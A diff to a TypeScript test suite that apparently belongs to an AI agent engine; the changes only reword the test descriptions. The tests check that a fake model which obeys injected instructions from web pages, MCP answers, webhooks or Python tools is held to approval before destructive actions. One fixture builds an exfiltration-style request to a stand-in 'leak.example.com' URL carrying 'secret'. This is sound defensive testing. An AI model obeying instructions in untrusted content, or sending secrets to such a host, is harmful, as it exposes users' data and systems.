@@ -9,7 +9,7 @@ import { type FakeServices, toolOf, toolsetOf } from '../testing/fake-services.j
 import { type ServedEngine, servedEngine } from '../testing/served-engine.js';
 import { agentOf, turnsOf } from '../testing/turns-of.js';
 
-describe('a model that obeys every word of what it has read', () => {
+describe('a model that obeys every word that it reads', () => {
   let served: ServedEngine;
   let world: EngineWorld;
   let model: FakeModel;
@@ -70,11 +70,11 @@ describe('a model that obeys every word of what it has read', () => {
     return { turn, codes: results.map((result) => result.error?.code ?? 'ok'), results };
   };
 
-  it('asks before it does what a web page says, and says on the approval and the timeline why', async () => {
+  it('needs approval before it does what a web page says, and the approval and the timeline say why', async () => {
     const { turn, approvals } = await waits({}, careful, [http('GET', '/page')], [wipe], 'Never.');
     expect(called()).toEqual([]);
     expect(approvals).toMatchObject([{ tool: 'desk__wipe', reason: 'untrusted_content', state: 'pending' }]);
-    await until('the timeline says it', async () => {
+    await until('the timeline says so', async () => {
       const sql = "SELECT detail FROM journal.entry WHERE subject_id = $1 AND reason = 'untrusted_content_read'";
       return (await world.pool.query(sql, [turn.turn_id])).rows[0]?.detail.tool === 'http_request';
     });
@@ -83,7 +83,7 @@ describe('a model that obeys every word of what it has read', () => {
   it.each<[string, () => { name: string; arguments: string }]>([
     ['an answer of an MCP server', () => named('desk__inbox')],
     ['a web page', () => http('GET', '/page')],
-  ])('does by itself nothing that an untrusted sender could not once it has read %s', async (_what, reading) => {
+  ])('may do by itself only what an untrusted sender could, once it has read %s', async (_what, reading) => {
     const read = reading();
     const leak = named('http_request', { method: 'GET', url: 'https://leak.example.com/?q=secret' });
     const bound = named('desk__http_request', { method: 'GET', url: 'https://api.example.com/' });
@@ -95,7 +95,7 @@ describe('a model that obeys every word of what it has read', () => {
     expect(target.calls.every(({ method }) => method === 'GET')).toBe(true);
   });
 
-  it('counts a document that was learnt from untrusted senders, and no other', async () => {
+  it('is limited by a document that was learnt from untrusted senders, and by no other', async () => {
     const kept = (title: string, trust: string) =>
       world.pool.query(
         `WITH d AS (INSERT INTO engine.document (id, organization_id, project_id, title, content, content_sha256, source,
@@ -112,7 +112,7 @@ describe('a model that obeys every word of what it has read', () => {
     expect((await codes(alone, {}, search('tamarins'), [wipe], 'Done.')).codes).toEqual(['ok', 'untrusted_content']);
   });
 
-  it('counts the text of a signed webhook, unless its App says that the system writes it', async () => {
+  it('is limited by the text of a signed webhook, unless its App says that the system writes it', async () => {
     const signed = { trust: 'builtin', verified: true } as const;
     expect((await codes(alone, signed, [wipe], 'No.')).codes).toEqual(['untrusted_content']);
     expect((await codes(alone, { ...signed, text_from: 'people' }, [wipe], 'No.')).codes).toEqual([
@@ -122,7 +122,7 @@ describe('a model that obeys every word of what it has read', () => {
     expect((await codes(alone, { ...signed, text_from: 'system' }, [wipe], 'Yes.')).codes).toEqual(['ok']);
   });
 
-  it('counts a Python tool whose code has asked for something, and no other', async () => {
+  it('is limited by a Python tool whose code has made requests, and by no other', async () => {
     const script = [named('desk__script')];
     expect((await codes(alone, {}, script, [wipe], 'Done.')).codes).toEqual(['ok', 'ok']);
     services.on('/internal/run', async () => {
@@ -132,7 +132,7 @@ describe('a model that obeys every word of what it has read', () => {
     expect((await codes(alone, {}, script, [wipe], 'Done.')).codes).toEqual(['ok', 'untrusted_content']);
   });
 
-  it('remembers it in the next turn of the session, which is shown the answer', async () => {
+  it('stays limited in the next turn of the session, which is shown the answer', async () => {
     const session = sessionOf(newId('ses'));
     const run = async (agent_id: string, ...script: Parameters<FakeModel['script']>) => {
       model.script(...script);
@@ -144,7 +144,7 @@ describe('a model that obeys every word of what it has read', () => {
     expect(called()).toEqual([]);
   });
 
-  it('remembers it when another process takes the turn over', async () => {
+  it('stays limited when another process takes over the turn', async () => {
     const first = turnOf({ agent_id: alone });
     let stop = (): void => undefined;
     const stopped = new Promise<void>((resolve) => {
